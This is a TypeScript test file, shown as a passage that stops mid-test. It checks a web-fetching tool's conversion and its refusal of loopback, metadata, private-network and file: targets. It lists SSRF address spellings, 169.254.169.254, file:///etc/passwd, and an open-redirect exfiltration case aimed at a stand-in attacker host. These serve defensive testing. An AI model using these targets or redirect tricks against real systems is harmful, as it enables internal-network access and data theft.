// webfetch through a real conversation (pipeline, gate, tool) against real HTTP servers
// on loopback. Nothing here connects anywhere else: refused targets are aimed at a
// loopback server whose connection log must stay empty.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import type http from 'node:http';
import path from 'node:path';
import zlib from 'node:zlib';
import { describe, expect, test } from 'vitest';
import type { ApprovalRequest } from '../../../src/core/permissions/approvals';
import type { ResolvedAddress } from '../../../src/core/web/egress';
import { systemLookup } from '../../../src/core/web/egress';
import { conversationIn } from '../conversation/conversationTestKit';
import { tempDir } from '../tools/toolTestContext';
import { forwardProxy, selfSigned, tlsServer, webServer, type TestServer } from './webServers';

const article = fs.readFileSync(path.resolve(__dirname, '../../fixtures/web/article-1.html'));
const html = (body: string, type = 'text/html; charset=utf-8') => (_req: http.IncomingMessage, res: http.ServerResponse) => res.writeHead(200, { 'content-type': type }).end(body);

/** A conversation whose user settings allow `allowed`, with a lookup that counts its calls. */
function fetcher(allowed: readonly string[], options: { user?: Record<string, unknown>; approve?: (r: ApprovalRequest) => boolean; lookups?: string[]; resolve?: Record<string, string>; signal?: AbortSignal; proxy?: { http?: string; https?: string; noProxy?: string[] } } = {}) {
  const lookups = options.lookups ?? [];
  const asked: ApprovalRequest[] = [];
  const conversation = conversationIn(tempDir('peon-web-'), {
    user: { 'peon.web.allowedHosts': allowed, ...options.user },
    hooks: {
      approve: async (request) => {
        asked.push(request);
        return { approved: options.approve ? options.approve(request) : true, scope: 'session' };
      },
      web: {
        ...(options.proxy ? { proxy: options.proxy } : {}),
        lookup: async (host, signal): Promise<readonly ResolvedAddress[]> => {
          lookups.push(host);
          const pinned = options.resolve?.[host];
          return pinned ? [{ address: pinned, family: pinned.includes(':') ? 6 : 4 }] : systemLookup(host, signal);
        },
      },
    },
    ...(options.signal ? { extra: { signal: options.signal } } : {}),
  });
  return { conversation, asked, lookups, fetch: (url: string, raw?: boolean) => conversation.call('webfetch', { url, ...(raw ? { raw } : {}) }) };
}

function expectOk(outcome: Awaited<ReturnType<ReturnType<typeof fetcher>['fetch']>>) {
  if (!outcome.ok) throw new Error(`expected success, got ${outcome.error.code}: ${outcome.error.message}`);
  return outcome;
}

describe('webfetch: pages', () => {
  test('a recorded article page becomes Markdown: headings, links with targets, fenced code, a table; no script or style text', async () => {
    const server = await webServer({ '/blog/atf': html(article.toString('utf8')) });
    const { fetch } = fetcher([server.hostPort]);
    const result = expectOk(await fetch(`${server.origin}/blog/atf`));
    const md = result.output;
    expect(md).toContain('Title: How we designed Dropbox ATF: an async task framework - Dropbox');
    expect(md).toMatch(/^# How we designed Dropbox ATF: an async task framework$/m);
    expect(md).toMatch(/^## Introduction$/m);
    expect(md).toContain('[Introduction](#introduction)');
    expect(md).toContain('[Jobs](http://dropbox.com/jobs)');
    expect(md).toContain('```\nrepeat every second:\n  1. poll tasks ready for execution from task store');
    expect(md).toMatch(/^\| \*\*Entity status\*\* \| \*\*Assoc status\*\* \|.*\|$/m);
    expect(md).toMatch(/^\| --- \| --- \| --- \| --- \|$/m);
    expect(md).toContain('| new | new | scheduled\\_timestamp of the task | Pick up new tasks that are ready. |');
    for (const noise of ['utag_data', 'tealium_event', 'stormcrow-animate', 'createElement', 'CDATA', 'knotch']) expect(md).not.toContain(noise);
    expect(result.headline).toBe(`Fetched ${server.hostPort}/blog/atf · 78 KB → Markdown`);
    expect(result.data).toMatchObject({ status: 200, contentType: 'text/html', bytes: article.length, form: 'Markdown', encoding: 'utf-8', truncated: false });
  });

  test('raw: true returns the HTML as it came', async () => {
    const server = await webServer({ '/': html(article.toString('utf8')) });
    const result = expectOk(await fetcher([server.hostPort]).fetch(`${server.origin}/`, true));
    expect(result.output).toContain('var utag_data = {}');
    expect(result.data).toMatchObject({ form: 'HTML' });
  });

  test('code blocks keep their language, and a fence longer than any backtick run inside', async () => {
    const page = '<h2>Use</h2><pre><code class="language-ts">const a = `x`;\nlet b = ```;\n</code></pre><div class="highlight highlight-source-python"><pre>print(1)</pre></div><p><a href="javascript:alert(1)">click</a> <img src="/a.png"> <img alt="Chart" src="chart.png"></p>';
    const server = await webServer({ '/doc/page': html(page) });
    const result = expectOk(await fetcher([server.hostPort]).fetch(`${server.origin}/doc/page`));
    expect(result.output).toContain('````ts\nconst a = `x`;\nlet b = ```;\n````');
    expect(result.output).toContain('```python\nprint(1)\n```');
    expect(result.output).toContain(`click ![Chart](${server.origin}/doc/chart.png)`);
    expect(result.output).not.toContain('javascript:');
    expect(result.output).not.toContain('a.png');
  });

  test('text, JSON and XML come back as text; a PNG is noted with its type and size, never returned', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(3000, 7)]);
    const server = await webServer({
      '/data.json': html('{"a": [1, 2]}', 'application/json'),
      '/feed.xml': html('<?xml version="1.0"?><rss><title>T &amp; U</title></rss>', 'application/rss+xml'),
      '/logo.png': (_q, res) => res.writeHead(200, { 'content-type': 'image/png' }).end(png),
      '/lying.html': (_q, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(png),
    });
    const { fetch } = fetcher([server.hostPort]);
    expect(expectOk(await fetch(`${server.origin}/data.json`)).output).toMatch(/\n\n\{"a": \[1, 2\]\}$/);
    expect(expectOk(await fetch(`${server.origin}/feed.xml`)).output).toContain('<title>T &amp; U</title>');
    for (const file of ['logo.png', 'lying.html']) {
      const image = expectOk(await fetch(`${server.origin}/${file}`));
      expect(image.output).toMatch(/Content: (image\/png|text\/html), 3 KB\. Binary content is not returned\.$/);
      expect(image.output).not.toContain('\u0007');
      expect(image.data).toMatchObject({ binary: true, bytes: png.length });
    }
  });

  test('Windows-1252 (from the header) and Shift-JIS (from a <meta>) are decoded, not mangled', async () => {
    const cp1252 = Buffer.concat([Buffer.from('<p>caf'), Buffer.from([0xe9, 0x20, 0x93]), Buffer.from('quoted'), Buffer.from([0x94, 0x20, 0x80]), Buffer.from('5</p>')]);
    // "日本語のページ" in Shift_JIS, declared only by the page's <meta>.
    const sjis = Buffer.concat([Buffer.from('<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS"></head><body><p>'), Buffer.from('93fa967b8cea82cc8379815b8357', 'hex'), Buffer.from('</p></body></html>')]);
    const server = await webServer({
      '/w': (_q, res) => res.writeHead(200, { 'content-type': 'text/html; charset=windows-1252' }).end(cp1252),
      '/j': (_q, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(sjis),
    });
    const { fetch } = fetcher([server.hostPort]);
    const western = expectOk(await fetch(`${server.origin}/w`));
    expect(western.output).toMatch(/café “quoted” €5$/);
    expect(western.data).toMatchObject({ encoding: 'windows-1252' });
    const japanese = expectOk(await fetch(`${server.origin}/j`));
    expect(japanese.output).toMatch(/日本語のページ$/);
    expect(japanese.data).toMatchObject({ encoding: 'shift_jis' });
  });

  test('a gzip-encoded page is decoded', async () => {
    const server = await webServer({ '/': (_q, res) => res.writeHead(200, { 'content-type': 'text/plain', 'content-encoding': 'gzip' }).end(zlib.gzipSync('hello, compressed world')) });
    expect(expectOk(await fetcher([server.hostPort]).fetch(`${server.origin}/`)).output).toMatch(/hello, compressed world$/);
  });

  test('a 404 is not_found and says what the server said; a 500 is unavailable', async () => {
    const server = await webServer({ '/broken': (_q, res) => res.writeHead(500, { 'content-type': 'text/plain' }).end('database on fire') });
    const { fetch } = fetcher([server.hostPort]);
    const missing = await fetch(`${server.origin}/nothing`);
    expect(missing).toMatchObject({ ok: false, error: { code: 'not_found', details: { status: 404 } } });
    const broken = await fetch(`${server.origin}/broken`);
    expect(broken).toMatchObject({ ok: false, error: { code: 'unavailable' } });
    expect(!broken.ok && broken.error.message).toContain('answered 500 Internal Server Error. It said: database on fire');
  });

  test('output longer than the limit is cut, and the result says how much was shown', async () => {
    const server = await webServer({ '/big.txt': html('x'.repeat(250_000), 'text/plain') });
    const result = expectOk(await fetcher([server.hostPort]).fetch(`${server.origin}/big.txt`));
    expect(result.output.length).toBeLessThanOrEqual(100_000);
    expect(result.output).toMatch(/\[output cut: \d+ of 250000 characters shown\]$/);
    expect(result.data).toMatchObject({ truncated: true, chars: 250_000 });
  });
});

describe('webfetch: bodies that do not behave', () => {
  const worker = path.resolve(__dirname, '../../../dist/markdownWorker.js'); // built by the unit tests' global setup

  test('a page that makes the converter take forever runs into the deadline in its worker; the host thread keeps running', async () => {
    const server = await webServer({ '/deep': html(`${'<div>'.repeat(60_000)}deep`) });
    let ticks = 0;
    const ticker = setInterval(() => ticks++, 20);
    const convo = conversationIn(tempDir('peon-web-'), { user: { 'peon.web.allowedHosts': [server.hostPort], 'peon.web.timeoutSeconds': 1 }, hooks: { web: { markdownWorker: worker } } });
    const outcome = await convo.call('webfetch', { url: `${server.origin}/deep` });
    clearInterval(ticker);
    expect(outcome).toMatchObject({ ok: false, error: { code: 'timeout' } });
    expect(!outcome.ok && outcome.error.message).toContain('Converting the page to Markdown took longer than 1 s');
    expect(ticks).toBeGreaterThan(1); // timers ran while the page was being converted
    // The next page converts in a fresh worker.
    const next = await webServer({ '/': html('<h1>Fine</h1>') });
    const again = conversationIn(tempDir('peon-web-'), { user: { 'peon.web.allowedHosts': [next.hostPort] }, hooks: { web: { markdownWorker: worker } } });
    expect(await again.call('webfetch', { url: `${next.origin}/` })).toMatchObject({ ok: true, output: expect.stringMatching(/# Fine$/) });
  });

  test('Stop ends a conversion in its worker at once', async () => {
    const stop = new AbortController();
    const server = await webServer({ '/deep': (_q, res) => (res.writeHead(200, { 'content-type': 'text/html' }).end(`${'<div>'.repeat(60_000)}deep`), setTimeout(() => stop.abort(new Error('Stop')), 50)) });
    const convo = conversationIn(tempDir('peon-web-'), { user: { 'peon.web.allowedHosts': [server.hostPort], 'peon.web.timeoutSeconds': 600 }, hooks: { web: { markdownWorker: worker } }, extra: { signal: stop.signal } });
    expect(await convo.call('webfetch', { url: `${server.origin}/deep` })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
  });

  test('a 404 whose body is a wall of "<" is reported without scanning all of it', async () => {
    const server = await webServer({ '/': (_q, res) => res.writeHead(404, { 'content-type': 'text/plain' }).end('<'.repeat(2_000_000)) });
    expect(await fetcher([server.hostPort]).fetch(`${server.origin}/`)).toMatchObject({ ok: false, error: { code: 'not_found' } });
  });

  test('NUL bytes make a body binary whatever its type says', async () => {
    const server = await webServer({ '/fake.json': (_q, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2000)])) });
    expect(expectOk(await fetcher([server.hostPort]).fetch(`${server.origin}/fake.json`)).data).toMatchObject({ binary: true, contentType: 'application/json' });
  });

  test('a 50 MB body is cut at 10 MiB while reading, and the connection is closed', async () => {
    let sent = 0;
    const chunk = Buffer.alloc(1024 * 1024, 'a');
    const server = await webServer({
      '/huge': (_q, res) => {
        res.writeHead(200, { 'content-type': 'text/plain', 'content-length': String(50 * chunk.length) });
        const pump = (): void => {
          while (sent < 50) {
            sent++;
            if (!res.write(chunk)) return void res.once('drain', pump);
          }
          res.end();
        };
        res.on('close', () => (sent = Math.min(sent, 50)));
        pump();
      },
    });
    const result = expectOk(await fetcher([server.hostPort]).fetch(`${server.origin}/huge`));
    expect(result.data).toMatchObject({ bytes: 10 * 1024 * 1024, cutAtBytes: 10 * 1024 * 1024 });
    expect(result.output).toContain('[the body was cut at 10.0 MB: the server sent more]');
    await server.closed();
    expect(sent).toBeLessThan(50);
  });

  test('a body that never ends runs into peon.web.timeoutSeconds, and the connection is closed', async () => {
    const server = await webServer({ '/forever': (_q, res) => res.writeHead(200, { 'content-type': 'text/plain' }).write('the start of something') });
    const result = await fetcher([server.hostPort], { user: { 'peon.web.timeoutSeconds': 1 } }).fetch(`${server.origin}/forever`);
    expect(result).toMatchObject({ ok: false, error: { code: 'timeout' } });
    expect(!result.ok && result.error.message).toContain('did not finish within 1 s (peon.web.timeoutSeconds)');
    await server.closed();
  });

  test('Stop cancels a request at once, mid-body', async () => {
    const stop = new AbortController();
    const server = await webServer({
      '/forever': (_q, res) => {
        res.writeHead(200, { 'content-type': 'text/plain' }).write('first bytes');
        setImmediate(() => stop.abort(new Error('Stop')));
      },
    });
    // The deadline (peon.web.timeoutSeconds) is ten minutes: only Stop can end this call.
    const result = await fetcher([server.hostPort], { signal: stop.signal, user: { 'peon.web.timeoutSeconds': 600 } }).fetch(`${server.origin}/forever`);
    expect(result).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    await server.closed();
  });
});

/** A loopback server that must never see a connection. */
async function bait(): Promise<TestServer> {
  return webServer({ '/': html('you should not see this') });
}

describe('webfetch: where requests may go', () => {
  test('every spelling of a loopback or unspecified address is refused, and the server sees no connection', async () => {
    const target = await bait();
    const { fetch, lookups, asked } = fetcher([]);
    const p = target.port;
    const spellings: [string, RegExp][] = [
      [`http://127.0.0.1:${p}/`, /127\.0\.0\.1 is a loopback address/],
      [`http://2130706433:${p}/`, /127\.0\.0\.1 is a loopback address/],
      [`http://0x7f.1:${p}/`, /127\.0\.0\.1 is a loopback address/],
      [`http://0177.0.0.1:${p}/`, /127\.0\.0\.1 is a loopback address/],
      [`http://127.1:${p}/`, /127\.0\.0\.1 is a loopback address/],
      [`http://0x7f000001:${p}/`, /127\.0\.0\.1 is a loopback address/],
      [`http://127.0.0.1.:${p}/`, /127\.0\.0\.1 is a loopback address/],
      [`http://[::1]:${p}/`, /::1 is a loopback address/],
      [`http://[::ffff:127.0.0.1]:${p}/`, /::ffff:7f00:1 is a loopback address/],
      [`http://[0:0:0:0:0:ffff:7f00:1]:${p}/`, /::ffff:7f00:1 is a loopback address/],
      [`http://[64:ff9b::127.0.0.1]:${p}/`, /64:ff9b::7f00:1 is a loopback address/],
      [`http://[::]:${p}/`, /:: is an unspecified address/],
      [`http://0.0.0.0:${p}/`, /0\.0\.0\.0 is an unspecified address/],
      [`http://0:${p}/`, /0\.0\.0\.0 is an unspecified address/],
      [`http://foo.localhost:${p}/`, /foo\.localhost is a loopback name/],
      [`http://localhost:${p}/`, /localhost is a loopback name/],
      [`http://LOCALHOST.:${p}/`, /localhost\. is a loopback name/],
    ];
    for (const [url, why] of spellings) {
      const outcome = await fetch(url);
      expect(outcome, url).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
      expect(!outcome.ok && outcome.error.message, url).toMatch(why);
    }
    expect(target.connections).toEqual([]);
    expect(lookups).toEqual([]); // literals and reserved names need no lookup
    expect(asked).toEqual([]); // refused before anyone is asked
  });

  test("SECURITY.md's private, metadata, CGNAT and unique-local targets are refused before any lookup or card", async () => {
    const { fetch, lookups, asked } = fetcher([]);
    const cases: [string, string][] = [
      ['http://169.254.169.254/latest/meta-data', '169.254.169.254 is a cloud metadata address'],
      ['http://metadata.google.internal/', 'metadata.google.internal is a cloud metadata name'],
      ['http://10.0.0.1/', '10.0.0.1 is a private network address'],
      ['http://192.168.1.1/', '192.168.1.1 is a private network address'],
      ['http://172.16.0.1/', '172.16.0.1 is a private network address'],
      ['http://[fd00::1]/', 'fd00::1 is a unique local address'],
      ['http://[fe80::1]/', 'fe80::1 is a link-local address'],
      ['http://100.64.0.1/', '100.64.0.1 is a shared (CGNAT) address'],
      ['http://224.0.0.1/', '224.0.0.1 is a multicast address'],
      ['http://printer.local/', 'printer.local is a local-network name'],
    ];
    for (const [url, why] of cases) {
      const outcome = await fetch(url);
      expect(outcome, url).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
      expect(!outcome.ok && outcome.error.message, url).toContain(why);
    }
    expect(lookups).toEqual([]);
    expect(asked).toEqual([]);
  });

  test('a name that resolves to a loopback address is refused after the lookup, without a connection', async () => {
    const target = await bait();
    const { fetch, lookups } = fetcher([], { resolve: { 'intranet.example.test': '127.0.0.1' } });
    const outcome = await fetch(`http://intranet.example.test:${target.port}/`);
    expect(outcome).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(!outcome.ok && outcome.error.message).toContain('intranet.example.test resolves to 127.0.0.1, a loopback address');
    expect(lookups).toEqual(['intranet.example.test']);
    expect(target.connections).toEqual([]);
  });

  test('file:, ftp:, data:, javascript:, credentials and malformed URLs are invalid_input', async () => {
    const { fetch, asked } = fetcher([]);
    for (const url of ['file:///etc/passwd', 'ftp://example.org/x', 'data:text/html,<b>x</b>', 'javascript:alert(1)', 'http://user:pass@example.org/', 'http://user@example.org/', 'example.org/no-scheme', 'http://', 'http://[::1/']) {
      expect(await fetch(url), url).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    }
    expect(asked).toEqual([]);
  });

  test('an allowed host is exempt exactly as written: the same host on another port is refused', async () => {
    const allowed = await webServer({ '/': html('<p>allowed</p>') });
    const other = await bait();
    const { fetch } = fetcher([allowed.hostPort]);
    expect(expectOk(await fetch(`${allowed.origin}/`)).output).toMatch(/allowed$/);
    expect(await fetch(`${other.origin}/`)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(other.connections).toEqual([]);
  });

  test('a redirect chain that ends at a loopback address not on the list is refused at that hop, and no request reaches it', async () => {
    const target = await bait();
    const start = await webServer({
      '/one': (_q, res) => res.writeHead(302, { location: '/two' }).end(),
      '/two': (_q, res) => res.writeHead(301, { location: `http://127.0.0.1:${target.port}/` }).end(),
    });
    const outcome = await fetcher([start.hostPort]).fetch(`${start.origin}/one`);
    expect(outcome).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(!outcome.ok && outcome.error.message).toContain(`webfetch does not fetch http://127.0.0.1:${target.port}/: 127.0.0.1 is a loopback address`);
    expect(start.requests.map((r) => r.url)).toEqual(['/one', '/two']);
    expect(target.connections).toEqual([]);
  });

  test("a redirect from an allowed host to any of SECURITY.md's targets is refused at that hop", async () => {
    const targets = ['http://2130706433/', 'http://0x7f.1/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://169.254.169.254/latest/meta-data', 'http://metadata.google.internal/', 'http://10.0.0.1/', 'http://[fd00::1]/', 'http://100.64.0.1/', 'http://localhost/', 'file:///etc/passwd'];
    const start = await webServer(Object.fromEntries(targets.map((t, i) => [`/to${i}`, (_q: http.IncomingMessage, res: http.ServerResponse) => res.writeHead(302, { location: t }).end()])));
    const { fetch } = fetcher([start.hostPort]);
    for (const [i, target] of targets.entries()) {
      const outcome = await fetch(`${start.origin}/to${i}`);
      expect(outcome, target).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    }
    expect(start.requests).toHaveLength(targets.length);
  });

  test('a redirect to another host is reported, not followed: the next host is a call the gate judges', async () => {
    const server = await webServer({
      '/go': (q, res) => res.writeHead(302, { location: `http://elsewhere.example.test:${q.socket.localPort}/secret` }).end(),
      '/www': (q, res) => res.writeHead(301, { location: `http://www.docs.example.test:${q.socket.localPort}/page` }).end(),
      '/page': html('<p>same site</p>'),
      '/secret': html('<p>should not be read by the redirect</p>'),
    });
    const names = { 'docs.example.test': '127.0.0.1', 'www.docs.example.test': '127.0.0.1', 'elsewhere.example.test': '127.0.0.1' };
    const allowed = Object.keys(names).map((n) => `${n}:${server.port}`);
    const { fetch } = fetcher(allowed, { resolve: names, user: { 'peon.permission.rules': { webfetch: { 'elsewhere.example.test': 'deny' } } } });
    const reported = expectOk(await fetch(`http://docs.example.test:${server.port}/go`));
    expect(reported.output).toContain(`Redirects to: http://elsewhere.example.test:${server.port}/secret`);
    expect(reported.output).toContain('This is another host, so webfetch did not follow it');
    expect(reported.headline).toBe(`Fetched docs.example.test:${server.port}/go · redirects to elsewhere.example.test:${server.port}`);
    expect(reported.data).toMatchObject({ status: 302, redirectedTo: `http://elsewhere.example.test:${server.port}/secret` });
    expect(server.requests.map((r) => r.url)).toEqual(['/go']);
    // The model's next call is judged on its own: the deny rule holds.
    expect(await fetch(`http://elsewhere.example.test:${server.port}/secret`)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    // The www. twin is another host to the rules, so it is reported too.
    expect(expectOk(await fetch(`http://docs.example.test:${server.port}/www`)).data).toMatchObject({ redirectedTo: `http://www.docs.example.test:${server.port}/page` });
  });

  test('an approved host with an open redirect cannot take a request to a host the person denied', async () => {
    const server = await webServer({ '/redirect': (q, res) => res.writeHead(302, { location: new URL(q.url ?? '', 'http://x').searchParams.get('to') ?? '/' }).end(), '/collect': html('collected') });
    const names = { 'docs.example.test': '127.0.0.1', 'attacker.example.test': '127.0.0.1' };
    const { fetch, asked } = fetcher(Object.keys(names).map((n) => `${n}:${server.port}`), {
      resolve: names,
      user: { 'peon.permission.rules': { webfetch: 'ask' } },
      approve: (r) => r.assessment.summary.kind === 'network' && r.assessment.summary.host === 'docs.example.test',
    });
    const to = encodeURIComponent(`http://attacker.example.test:${server.port}/collect?note=db-hunter2`);
    expectOk(await fetch(`http://docs.example.test:${server.port}/redirect?to=${to}`)); // approved for the session; reports the redirect
    expect(await fetch(`http://attacker.example.test:${server.port}/collect?note=db-hunter2`)).toMatchObject({ ok: false }); // its own card: denied
    expect(asked.map((r) => (r.assessment.summary as { host: string }).host)).toEqual(['docs.example.test', 'attacker.example.test']);
    expect(server.requests.map((r) => r.url.split('?')[0])).toEqual(['/redirect']);
  });

  test('a host rule written in Unicode matches the punycode the URL carries', async () => {
    const server = await webServer({ '/': html('<p>reached</p>') });
    const { fetch } = fetcher([`xn--bcher-kva.example.test:${server.port}`], { resolve: { 'xn--bcher-kva.example.test': '127.0.0.1' }, user: { 'peon.permission.rules': { webfetch: { 'bücher.example.test': 'deny' } } } });
    expect(await fetch(`http://bücher.example.test:${server.port}/`)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(server.connections).toEqual([]);
  });

  test('click-tracking parameters are left out of the request, and the card shows the URL without them', async () => {
    const server = await webServer({ '/post': html('<p>the post</p>') });
    const { fetch, asked } = fetcher([server.hostPort], { user: { 'peon.permission.rules': { webfetch: 'ask' } } });
    const result = expectOk(await fetch(`${server.origin}/post?id=7&utm_source=newsletter&fbclid=IwAR0k2QyX3lq8a4kzU4U0-Ftx5T8m2E9uR3nTiK5q1oL6M2vB8cYwZpFhA`));
    expect(server.requests[0]?.url).toBe('/post?id=7');
    expect(asked[0]!.assessment.summary).toMatchObject({ url: `${server.origin}/post?id=7` });
    expect(result.output).toMatch(/\[tracking parameters left out of the request: utm_source, fbclid\]$/);
  });

  test('host rules compare hosts as hosts: case and a trailing dot do not escape them', async () => {
    const server = await webServer({ '/': html('<p>reached</p>') });
    const names = { 'blocked.example.test': '127.0.0.1', 'blocked.example.test.': '127.0.0.1' };
    const { fetch } = fetcher([`blocked.example.test:${server.port}`, `blocked.example.test.:${server.port}`], { resolve: names, user: { 'peon.permission.rules': { webfetch: { 'Blocked.Example.Test': 'deny' } } } });
    for (const url of [`http://blocked.example.test:${server.port}/`, `http://blocked.example.test.:${server.port}/`, `http://BLOCKED.example.test.:${server.port}/`]) {
      expect(await fetch(url), url).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    }
    expect(server.connections).toEqual([]);
  });

  test('redirects are followed up to five hops, to a scheme webfetch takes', async () => {
    const server = await webServer({
      ...Object.fromEntries([1, 2, 3, 4, 5, 6, 7].map((n) => [`/r${n}`, (_q: http.IncomingMessage, res: http.ServerResponse) => res.writeHead(307, { location: `/r${n + 1}` }).end()])),
      '/r0': (_q, res) => res.writeHead(302, { location: '/r1' }).end(),
      '/ftp': (_q, res) => res.writeHead(302, { location: 'ftp://example.org/' }).end(),
      '/done': html('<p>done</p>'),
      '/hop': (_q, res) => res.writeHead(302, { location: '/done' }).end(),
    });
    const { fetch } = fetcher([server.hostPort]);
    const followed = expectOk(await fetch(`${server.origin}/hop`));
    expect(followed.output).toContain(`Redirected from: ${server.origin}/hop`);
    expect(followed.data).toMatchObject({ url: `${server.origin}/done` });
    const looping = await fetch(`${server.origin}/r0`);
    expect(looping).toMatchObject({ ok: false, error: { code: 'unavailable' } });
    expect(!looping.ok && looping.error.message).toContain('redirects more than 5 times');
    expect(server.requests.filter((r) => r.url.startsWith('/r')).length).toBe(6);
    expect(await fetch(`${server.origin}/ftp`)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
  });

  test('the connection goes to the address the one lookup returned (no second lookup)', async () => {
    const server = await webServer({ '/': html('<p>pinned</p>') });
    const { fetch, lookups } = fetcher([`docs.example.test:${server.port}`], { resolve: { 'docs.example.test': '127.0.0.1' } });
    const result = expectOk(await fetch(`http://docs.example.test:${server.port}/`));
    expect(result.output).toMatch(/pinned$/);
    expect(lookups).toEqual(['docs.example.test']);
    expect(server.requests[0]?.headers.host).toBe(`docs.example.test:${server.port}`);
  });

  test("when one of a name's checked addresses cannot be reached, the next is tried; when none can, the answer says so", async () => {
    const server = await webServer({ '/': html('<p>second address</p>') });
    // Nothing listens on 127.0.0.2 (loopback all the same): the connection is refused there.
    const lookup = (addresses: string[]) => async (): Promise<readonly ResolvedAddress[]> => addresses.map((address) => ({ address, family: 4 as const }));
    const convo = (addresses: string[]) => conversationIn(tempDir('peon-web-'), { user: { 'peon.web.allowedHosts': [`multi.example.test:${server.port}`] }, hooks: { web: { lookup: lookup(addresses) } } });
    const outcome = await convo(['127.0.0.2', '127.0.0.1']).call('webfetch', { url: `http://multi.example.test:${server.port}/` });
    expect(outcome).toMatchObject({ ok: true, output: expect.stringMatching(/second address$/) });
    const none = await convo(['127.0.0.2', '127.0.0.3']).call('webfetch', { url: `http://multi.example.test:${server.port}/` });
    expect(none).toMatchObject({ ok: false, error: { code: 'unavailable', details: { code: 'ECONNREFUSED' } } });
  });

  test('a name whose addresses include a private one is refused, whichever comes first', async () => {
    const lookups: string[] = [];
    const convo = conversationIn(tempDir('peon-web-'), {
      hooks: { web: { lookup: async (host) => (lookups.push(host), [{ address: '93.184.216.34', family: 4 }, { address: '10.1.2.3', family: 4 }]) } },
    });
    const outcome = await convo.call('webfetch', { url: 'http://mixed.example.test/' });
    expect(outcome).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(!outcome.ok && outcome.error.message).toContain('mixed.example.test resolves to 10.1.2.3, a private network address');
  });

  test('TLS certificates are verified: a self-signed server is unavailable, not trusted', async () => {
    const server = await tlsServer({ '/': html('secret') });
    const outcome = await fetcher([server.hostPort]).fetch(`${server.origin}/`);
    expect(outcome).toMatchObject({ ok: false, error: { code: 'unavailable' } });
    expect(!outcome.ok && outcome.error.message).toMatch(/TLS connection to 127\.0\.0\.1:\d+ failed|certificate/i);
    expect(server.requests).toEqual([]);
  });
});

describe('webfetch: certificates', () => {
  /** `peon tool webfetch` in its own process, trusting `certFile` as a CA (NODE_EXTRA_CA_CERTS is read at start-up). */
  function cliFetch(url: string, allowed: string, certFile: string) {
    const dir = tempDir('peon-web-cli-');
    const config = path.join(dir, 'settings.json');
    fs.writeFileSync(config, JSON.stringify({ 'peon.web.allowedHosts': [allowed] }));
    // Asynchronously: the servers answering it live in this process.
    const child = spawn(process.execPath, [path.resolve('dist/cli.js'), 'tool', 'webfetch', '--workspace', dir, '--config', config, '--input', JSON.stringify({ url })], { env: { ...process.env, NODE_EXTRA_CA_CERTS: certFile, PEON_STATE_DIR: dir } });
    let stdout = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk));
    return new Promise<{ ok: boolean; output?: string; error?: { code: string; message: string } }>((resolve) => child.once('close', () => resolve(JSON.parse(stdout))));
  }

  test('an https URL naming an IP is checked against that IP: its own certificate passes, one for "localhost" does not', async () => {
    const right = selfSigned('IP:127.0.0.1');
    const wrong = selfSigned('DNS:localhost');
    const good = await tlsServer({ '/': html('<p>the right certificate</p>') }, right);
    const bad = await tlsServer({ '/': html('<p>an impostor</p>') }, wrong);
    expect(await cliFetch(`${good.origin}/`, good.hostPort, right.certFile)).toMatchObject({ ok: true, output: expect.stringMatching(/the right certificate$/) });
    const refused = await cliFetch(`${bad.origin}/`, bad.hostPort, wrong.certFile);
    expect(refused).toMatchObject({ ok: false, error: { code: 'unavailable' } });
    expect(refused.error?.message).toMatch(/TLS connection to 127\.0\.0\.1:\d+ failed \(ERR_TLS_CERT_ALTNAME_INVALID\)/);
    expect(bad.requests).toEqual([]);
  });
});

describe('webfetch: the proxy', () => {
  test('http:// and https:// go through the proxy in a CONNECT tunnel; NO_PROXY goes direct', async () => {
    const proxy = await forwardProxy();
    const server = await webServer({ '/p': html('<p>via proxy</p>') });
    const tls = await tlsServer({ '/': html('x') });
    const { fetch } = fetcher([server.hostPort, tls.hostPort], { proxy: { http: proxy.origin, https: proxy.origin } });
    expect(expectOk(await fetch(`${server.origin}/p`)).output).toMatch(/via proxy$/);
    expect(proxy.seen).toEqual([`CONNECT ${server.hostPort}`]);
    // The tunnel is opened; the certificate is still checked at the far end.
    expect(await fetch(`${tls.origin}/`)).toMatchObject({ ok: false, error: { code: 'unavailable' } });
    expect(proxy.seen[1]).toBe(`CONNECT ${tls.hostPort}`);
    const direct = fetcher([server.hostPort], { proxy: { http: proxy.origin, noProxy: ['127.0.0.1'] } });
    expect(expectOk(await direct.fetch(`${server.origin}/p`)).output).toMatch(/via proxy$/);
    expect(proxy.seen.length).toBe(2);
  });

  test('the proxy is told the checked address, never the name, so its own lookup cannot be rebound; the site still sees its name', async () => {
    const proxy = await forwardProxy();
    // A shared address serving two sites by Host: through the tunnel the request still names its site.
    const server = await webServer({ '/p': (q, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(q.headers.host?.startsWith('docs.example.test') ? '<p>pinned through the proxy</p>' : '<p>the default site</p>') });
    const { fetch, lookups } = fetcher([`docs.example.test:${server.port}`, `tls.example.test:${server.port}`], { proxy: { http: proxy.origin, https: proxy.origin }, resolve: { 'docs.example.test': '127.0.0.1', 'tls.example.test': '127.0.0.1' } });
    expect(expectOk(await fetch(`http://docs.example.test:${server.port}/p`)).output).toMatch(/pinned through the proxy$/);
